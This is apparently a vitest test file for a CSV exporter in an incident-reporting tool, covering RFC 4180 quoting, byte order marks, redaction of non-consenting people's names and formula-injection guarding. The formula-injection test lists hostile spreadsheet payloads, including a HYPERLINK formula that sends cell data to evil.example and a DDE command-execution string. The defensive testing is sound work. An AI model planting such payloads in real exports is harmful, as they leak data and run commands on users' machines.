import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportCsv } from '../../../src/coordinator/exportCsv';
import { exportFormatters } from '../../../src/coordinator/exportFormatters';
import { testReport } from '../bundle/bundleTestKit';
import { documentOf, exportDocument, exportedReport } from './exportTestDocument';

/**
 * A strict RFC 4180 reader, written independently of the exporter: records end with CRLF, a field
 * is either plain (no quote, comma, CR or LF) or quoted with "" for a quote. Anything else throws.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = 0;
  while (at < text.length) {
    let field = '';
    if (text[at] === '"') {
      at += 1;
      for (;;) {
        if (at >= text.length) throw new Error('unterminated quoted field');
        if (text[at] === '"') {
          if (text[at + 1] === '"') {
            field += '"';
            at += 2;
            continue;
          }
          at += 1;
          break;
        }
        field += text[at];
        at += 1;
      }
    } else {
      while (at < text.length && text[at] !== ',' && text[at] !== '\r') {
        if (text[at] === '"' || text[at] === '\n') throw new Error(`bare ${JSON.stringify(text[at])} in a plain field at ${at}`);
        field += text[at];
        at += 1;
      }
    }
    record.push(field);
    if (text[at] === ',') {
      at += 1;
    } else if (text.startsWith('\r\n', at)) {
      records.push(record);
      record = [];
      at += 2;
    } else {
      throw new Error(`expected a comma or CRLF at ${at}`);
    }
  }
  if (record.length > 0) throw new Error('last record has no CRLF');
  return records;
}

const BOM = [0xef, 0xbb, 0xbf];

/** The file as a spreadsheet program receives it: UTF-8 bytes, BOM checked and removed, then parsed. */
function readCsvFile(text: string): { header: string[]; rows: Record<string, string>[]; widths: number[] } {
  const bytes = new TextEncoder().encode(text);
  expect([...bytes.subarray(0, 3)]).toEqual(BOM);
  const [header = [], ...rest] = parseCsv(new TextDecoder('utf-8', { fatal: true }).decode(bytes.subarray(3)));
  return {
    header,
    rows: rest.map((cells) => Object.fromEntries(header.map((name, i) => [name, cells[i] ?? '<missing>']))),
    widths: rest.map((cells) => cells.length),
  };
}

describe('exportCsv', () => {
  it('is UTF-8 with one byte order mark, a header, and one row per report', () => {
    const text = exportCsv(documentOf(testReport(1), testReport(2), testReport(3)));
    const bytes = new TextEncoder().encode(text);
    expect([...bytes.subarray(0, 3)]).toEqual(BOM);
    expect(text.indexOf('\uFEFF', 1)).toBe(-1);
    const { header, rows } = readCsvFile(text);
    expect(header).toContain('report id');
    expect(rows.map((row) => row['report id'])).toEqual([testReport(1).id, testReport(2).id, testReport(3).id]);
    // The table the command line writes is this same text.
    expect(exportFormatters.csv(documentOf(testReport(1)))).toBe(exportCsv(documentOf(testReport(1))));
  });

  it('an export with no reports is the header alone', () => {
    const { header, rows } = readCsvFile(exportCsv(exportDocument([])));
    expect(header.length).toBeGreaterThan(10);
    expect(rows).toEqual([]);
  });

  it('round-trips any text through RFC 4180 quoting, with the same number of fields in every row', () => {
    const awkward = fc.constantFrom(',', '"', '""', '\r', '\n', '\r\n', ' ', 'a', 'Ж', 'қ', 'ә', '🙂', ';', "'", '=', '+', '-', '@', '\t', '\\');
    const text = fc.oneof(fc.string({ unit: awkward, maxLength: 30 }), fc.string({ unit: 'grapheme', maxLength: 30 }));
    fc.assert(
      fc.property(fc.array(fc.record({ narrative: text, venue: text, verification: text }), { minLength: 1, maxLength: 5 }), (fields) => {
        const reports = fields.map((f, i) => ({ ...testReport(i + 1), narrative: f.narrative, where: { ...testReport(i + 1).where, venue: f.venue }, verification: f.verification }));
        const { header, rows, widths } = readCsvFile(exportCsv(documentOf(...reports)));
        expect(widths.every((width) => width === header.length)).toBe(true);
        rows.forEach((row, i) => {
          const f = fields[i];
          if (f === undefined) throw new Error('more rows than reports');
          // A cell a spreadsheet would run as a formula (EXPORT_FORMAT.md §4) comes back behind one apostrophe; all else exactly.
          const shown = (value: string) => (/^[=+\-@\t\r＝＋－＠]/u.test(value) ? `'${value}` : value);
          expect(row['what happened']).toBe(shown(f.narrative));
          expect(row['venue']).toBe(shown(f.venue));
          expect(row['verification']).toBe(shown(f.verification));
        });
      }),
      { numRuns: 200 },
    );
  });

  it('keeps formulas from running: a cell starting with = + - @ TAB or CR is shown as text', () => {
    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'];
    const reports = attacks.map((narrative, i) => ({ ...testReport(i + 1), narrative }));
    const { rows } = readCsvFile(exportCsv(documentOf(...reports)));
    expect(rows.map((row) => row['what happened'])).toEqual(attacks.map((attack) => `'${attack}`));
    // Positive control: ordinary text, and a sign inside the text, are left alone.
    const plain = readCsvFile(exportCsv(documentOf({ ...testReport(1), narrative: 'Fined 150 000 KZT - appealed = no' }))).rows[0];
    expect(plain?.['what happened']).toBe('Fined 150 000 KZT - appealed = no');
  });

  it('guards tags and other lists too', () => {
    const report = testReport(1, { tags: ['=1+1', 'march'] });
    expect(readCsvFile(exportCsv(documentOf(report))).rows[0]?.['tags']).toBe("'=1+1; march");
  });

  it('writes the current version, counts versions, and puts outcome and legal basis in words', () => {
    const first = testReport(7, { narrative: 'First account.' });
    const amended = testReport(7, {
      narrative: 'Amended account.',
      when: { value: '2026-03', precision: 'month' },
      legalBasis: [
        { code: 'administrative_offences', article: '488' },
        { code: 'criminal', article: '405 part 2' },
      ],
      outcome: { kind: 'fine', amount: 150_000, currency: 'KZT' },
      actors: ['police', 'court'],
      source: 'lawyer',
    });
    const { rows } = readCsvFile(exportCsv(exportDocument([exportedReport(first, amended)])));
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      versions: '2',
      'what happened': 'Amended account.',
      date: '2026-03',
      'date precision': 'month',
      'legal basis': 'Code on Administrative Offences, art. 488; Criminal Code, art. 405 part 2',
      outcome: 'fine of 150,000 KZT',
      actors: 'police; court',
      source: 'lawyer',
      'incident type': 'Meeting disrupted',
      freedoms: 'Freedom of association',
    });
    const arrest = testReport(8, { outcome: { kind: 'administrative_arrest', days: 10 } });
    expect(readCsvFile(exportCsv(documentOf(arrest))).rows[0]?.['outcome']).toBe('administrative arrest, 10 days');
  });

  it('names only people who consented; the others appear as "(name withheld)", in free text too', () => {
    const report = testReport(1, {
      narrative: 'Police took Daniyar Bekov and Aigerim Sadykova from the meeting; Bekov was released at night.',
      peopleAffected: [
        { name: 'Aigerim Sadykova', role: 'activist', affiliation: 'Democratic Party', consentToPublish: true },
        { name: 'Daniyar Bekov', role: 'journalist', affiliation: '', consentToPublish: false },
      ],
    });
    const document = documentOf(report);
    expect(JSON.stringify(document)).toContain('Bekov'); // positive control: the name is in what was exported
    const text = exportCsv(document);
    expect(text).not.toContain('Daniyar');
    expect(text).not.toContain('Bekov');
    const row = readCsvFile(text).rows[0];
    expect(row?.['people named (with consent)']).toBe('Aigerim Sadykova');
    expect(row?.['people affected']).toBe('Aigerim Sadykova, activist, Democratic Party; (name withheld), journalist');
    expect(row?.['what happened']).toContain('Aigerim Sadykova');
  });

  it('lists the incident type\'s own fields in words', () => {
    const report = testReport(1, { incidentType: 'detention_or_arrest', details: { detainedAt: 'street', heldHours: 5, lawyerAccess: 'unknown', heldAt: 'District_3 station' }, freedoms: [] });
    expect(readCsvFile(exportCsv(documentOf(report))).rows[0]?.['details']).toBe('detained at: street; held at: District_3 station; held hours: 5; lawyer access: not known');
  });
});
